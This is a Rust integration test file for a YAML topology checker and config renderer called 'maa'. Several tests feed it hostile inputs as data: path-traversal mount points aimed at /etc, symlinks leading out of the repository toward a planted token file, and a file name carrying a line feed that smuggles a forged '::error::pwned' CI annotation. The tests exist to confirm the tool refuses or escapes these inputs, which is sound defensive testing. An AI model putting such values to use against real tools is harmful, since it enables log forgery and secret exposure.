fn render_check_reports_stale_and_unexpected_files_and_prune_removes_stale_ones() {
    let dir = rendered();
    let t = dir.path().join("t.yaml");
    let text0 = std::fs::read_to_string(&t).unwrap();
    assert!(text0.contains("ohs1b"));
    std::fs::write(&t, text0.replace("ohs1b", "ohs1c")).unwrap();
    std::fs::write(dir.path().join("maa-out/extra.txt"), "mine").unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "all", "--check", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("stale: ohs/ohs1b/mod_wl_ohs.conf"),
        "{stdout}"
    );
    assert!(
        stdout.contains("missing: ohs/ohs1c/mod_wl_ohs.conf"),
        "{stdout}"
    );
    assert!(stdout.contains("unexpected: extra.txt"), "{stdout}");
    // Rendering one target says nothing about the files of the others.
    let out = maa(dir.path())
        .args(["render", "-t", "tnsnames", "--check", "t.yaml"])
        .output()
        .unwrap();
    assert!(
        !text(&out.stdout).contains("ohs1b"),
        "{}",
        text(&out.stdout)
    );
    maa(dir.path())
        .args(["render", "-t", "all", "--prune", "t.yaml"])
        .assert()
        .code(0);
    assert!(!dir.path().join("maa-out/ohs/ohs1b").exists());
    assert!(
        dir.path().join("maa-out/extra.txt").exists(),
        "prune removed a file maa did not write"
    );
    std::fs::remove_file(dir.path().join("maa-out/extra.txt")).unwrap();
    maa(dir.path())
        .args(["render", "-t", "all", "--check", "t.yaml"])
        .assert()
        .code(0);
    // A stale file edited since maa wrote it is kept.
    std::fs::write(&t, text0.replace("ohs1b", "ohs1d")).unwrap();
    maa(dir.path())
        .args(["render", "-t", "all", "t.yaml"])
        .assert()
        .code(0);
    std::fs::write(&t, text0.replace("ohs1b", "ohs1e")).unwrap();
    std::fs::write(
        dir.path().join("maa-out/ohs/ohs1d/mod_wl_ohs.conf"),
        "edited\n",
    )
    .unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "all", "--prune", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(
        text(&out.stderr).contains("changed since maa wrote it"),
        "{}",
        text(&out.stderr)
    );
    assert!(
        dir.path()
            .join("maa-out/ohs/ohs1d/mod_wl_ohs.conf")
            .exists()
    );
}

#[test]
fn a_stale_file_stays_owned_after_another_render_until_pruned() {
    let dir = rendered();
    let t = dir.path().join("t.yaml");
    let text0 = std::fs::read_to_string(&t).unwrap();
    std::fs::write(&t, text0.replace("ohs1b", "ohs1c")).unwrap();
    // Rendering the new topology must not forget that maa wrote ohs/ohs1b/.
    maa(dir.path())
        .args(["render", "-t", "all", "t.yaml"])
        .assert()
        .code(0);
    let out = maa(dir.path())
        .args(["render", "-t", "all", "--check", "t.yaml"])
        .output()
        .unwrap();
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("stale: ohs/ohs1b/mod_wl_ohs.conf"),
        "{stdout}"
    );
    assert!(!stdout.contains("unexpected"), "{stdout}");
    maa(dir.path())
        .args(["render", "-t", "all", "--prune", "t.yaml"])
        .assert()
        .code(0);
    assert!(!dir.path().join("maa-out/ohs/ohs1b").exists());
    maa(dir.path())
        .args(["render", "-t", "all", "--check", "t.yaml"])
        .assert()
        .code(0);
}

#[test]
fn a_config_levelling_every_rule_to_info_is_a_warning() {
    let (_outer, repo) = planted_config();
    std::fs::write(repo.join("maa.yaml"), "severity: {ALL: info}\n").unwrap();
    let out = maa(&repo)
        .args(["check", "--format", "json", "sub/t.yaml"])
        .output()
        .unwrap();
    let warned = messages_of(&out.stdout, "config/disables-every-rule");
    assert!(
        warned.iter().any(|m| m.contains("levels it to `info`")),
        "{}",
        text(&out.stdout)
    );
    // Levelling some rules only is an ordinary choice.
    std::fs::write(repo.join("maa.yaml"), "severity: {WLS: info}\n").unwrap();
    let (_, codes) = codes_of(maa(&repo).args(["check", "--format", "json", "sub/t.yaml"]));
    assert!(
        !codes.iter().any(|c| c == "config/disables-every-rule"),
        "{codes:?}"
    );
}

#[test]
fn outputs_are_checked_before_any_work_and_dev_null_discards() {
    let dir = repo();
    // `-o /dev/null` discards the report (exit as for stdout), and /dev/null survives.
    let out = maa(dir.path())
        .args(["check", "-o", "/dev/null", "t.yaml"])
        .output()
        .unwrap();
    assert_ne!(out.status.code(), Some(2), "{}", text(&out.stderr));
    assert!(out.stdout.is_empty());
    let meta = std::fs::metadata("/dev/null").unwrap();
    assert!(!meta.is_file());
    // Two writers on one file.
    let out = maa(dir.path())
        .args([
            "check",
            "-o",
            "x.json",
            "--write-baseline",
            "./x.json",
            "t.yaml",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("both name"),
        "{}",
        text(&out.stderr)
    );
    assert!(!dir.path().join("x.json").exists());
    // An output over the baseline read is refused before anything is reported.
    maa(dir.path())
        .args(["check", "--write-baseline", "bl.json", "t.yaml"])
        .assert()
        .code(0);
    let out = maa(dir.path())
        .args(["check", "--baseline", "bl.json", "-o", "bl.json", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = text(&out.stderr);
    assert!(stderr.contains("not writing `bl.json`"), "{stderr}");
    assert!(!stderr.contains("suppressed"), "{stderr}");
}

// ---- review: findings on one long line, many load errors ---------------------------------

#[test]
fn load_errors_are_capped_per_file_with_a_count_of_the_rest() {
    let dir = repo();
    let items = vec!["1"; 5_000].join(",");
    std::fs::write(
        dir.path().join("s.yaml"),
        format!("version: 1\nname: x\narchitecture: single-site\nsites: [{items}]\n"),
    )
    .unwrap();
    let keys: String = (0..5_000).map(|i| format!("k{i}: 1\n")).collect();
    std::fs::write(
        dir.path().join("u.yaml"),
        format!("version: 1\nname: x\narchitecture: single-site\nsites: []\n{keys}"),
    )
    .unwrap();
    for (file, more) in [("s.yaml", 4_900), ("u.yaml", 4_900)] {
        let out = maa(dir.path())
            .args(["check", "--format", "json", file])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        let codes = json_codes(&out.stdout);
        assert_eq!(codes.len(), 101, "{file}");
        let limit = messages_of(&out.stdout, "load/limit");
        assert!(
            limit
                .iter()
                .any(|m| m.contains(&format!("{more} more error(s) not shown"))),
            "{file}: {limit:?}"
        );
        // The human report is bounded too, and quotes no whole long line.
        let out = maa(dir.path()).args(["check", file]).output().unwrap();
        assert!(out.stdout.len() < 200_000, "{file}: {}", out.stdout.len());
    }
}

#[test]
fn cr_only_line_endings_get_snippets() {
    let dir = repo();
    let lf = std::fs::read_to_string(dir.path().join("t.yaml")).unwrap();
    let cr = lf
        .replace("version: 1", "version: 1\nbogus_key: 1")
        .replace('\n', "\r");
    std::fs::write(dir.path().join("cr.yaml"), cr).unwrap();
    let out = maa(dir.path()).args(["check", "cr.yaml"]).output().unwrap();
    let stdout = text(&out.stdout);
    // The snippet quotes the line (`2 │ bogus_key: 1`).
    assert!(stdout.contains("│ bogus_key: 1"), "{stdout}");
    assert!(!stdout.contains("too long to quote"), "{stdout}");
}

#[test]
fn a_lun_mounted_over_a_system_directory_is_refused_with_the_reason() {
    for (mount, why) in [
        ("/u01/../../etc", "`..` component"),
        ("/etc", "system directory `/etc`"),
        ("/usr/local", "system directory `/usr`"),
        ("u01", "is not a valid `mount`"),
    ] {
        let (code, messages) = aws_check("mount: /u01", &format!("mount: {mount}"));
        assert_eq!(code, Some(2), "{mount}: {messages}");
        assert!(messages.contains(why), "{mount}: {messages}");
    }
}

#[test]
fn a_linked_directory_named_on_the_command_line_is_not_followed_out_of_the_tree() {
    let (outer, repo) = planted();
    let home = outer.path().join("home/.config/gh");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("hosts.yml"), format!("token: {SECRET}\n")).unwrap();
    symlink("../home/.config/gh", &repo.join("linked"));
    symlink("..", &repo.join("evil"));
    for args in [
        vec!["check", "linked"],
        vec!["check", "--follow-symlinks", "linked"],
        vec!["check", "evil/secret.txt"],
        vec!["check", "--format", "json", "evil/secret.txt"],
    ] {
        let out = maa(&repo).args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(!all.contains(SECRET), "{args:?}: {all}");
        assert!(
            all.contains("leads outside the repository"),
            "{args:?}: {all}"
        );
    }
    // A link that stays inside the repository is fine.
    symlink("topologies", &repo.join("inner"));
    let out = maa(&repo).args(["check", "inner/a.yaml"]).output().unwrap();
    assert_ne!(out.status.code(), Some(2), "{}", text(&out.stderr));
}

#[test]
fn render_refuses_an_out_dir_through_a_link_and_any_link_under_it() {
    let dir = repo();
    let outside = tempfile::tempdir().unwrap();
    symlink(outside.path(), &dir.path().join("build"));
    let out = maa(dir.path())
        .args([
            "render",
            "-t",
            "tnsnames",
            "--out",
            "build/maa-out",
            "t.yaml",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        std::fs::read_dir(outside.path()).unwrap().next().is_none(),
        "wrote outside the repository"
    );
    // An unrelated link under --out stops the render before anything is written.
    maa(dir.path())
        .args(["render", "-t", "tnsnames", "t.yaml"])
        .assert()
        .code(0);
    symlink(outside.path(), &dir.path().join("maa-out/zzz"));
    let before = std::fs::read(dir.path().join("maa-out/.maa-manifest.json")).unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "all", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("maa-out/zzz"),
        "{}",
        text(&out.stderr)
    );
    assert!(!dir.path().join("maa-out/ohs").exists());
    assert_eq!(
        std::fs::read(dir.path().join("maa-out/.maa-manifest.json")).unwrap(),
        before
    );
}

#[test]
fn line_feeds_in_file_names_never_reach_a_log_raw() {
    let dir = repo();
    let name = "a\n::error::pwned.yaml";
    std::fs::copy(dir.path().join("t.yaml"), dir.path().join(name)).unwrap();
    let forged = |out: &std::process::Output| {
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        all.lines()
            .any(|l| l.starts_with("::error::pwned") || l.starts_with("::error::fake"))
    };
    let out = maa(dir.path())
        .args(["check", "--show-config", "."])
        .output()
        .unwrap();
    assert!(!forged(&out), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("a\\n::error::pwned.yaml"));
    for format in ["human", "github"] {
        let out = maa(dir.path())
            .args(["check", "--format", format, "."])
            .output()
            .unwrap();
        assert!(!forged(&out), "{format}: {}", text(&out.stdout));
    }
    maa(dir.path())
        .args(["render", "-t", "wlst", "t.yaml"])
        .assert()
        .code(0);
    std::fs::write(dir.path().join("maa-out/wlst/x\n::error::fake.py"), "x").unwrap();
    let out = maa(dir.path())
        .args(["render", "-t", "wlst", "--check", "t.yaml"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(!forged(&out), "{}", text(&out.stdout));
    assert!(
        text(&out.stdout).contains("unexpected: wlst/x\\n::error::fake.py"),
        "{}",
        text(&out.stdout)
    );
}

#[test]
fn a_tab_indenting_the_line_after_a_plain_scalar_is_reported_at_the_tab() {
    let dir = repo();
    std::fs::write(
        dir.path().join("tab.yaml"),
        "sites:\n  - name: dc1\n\trole: primary\n",
    )
    .unwrap();
    let d = diagnostics(dir.path(), "tab.yaml");
    assert_eq!((d[0].1, d[0].2), (3, 1), "{d:?}");
}
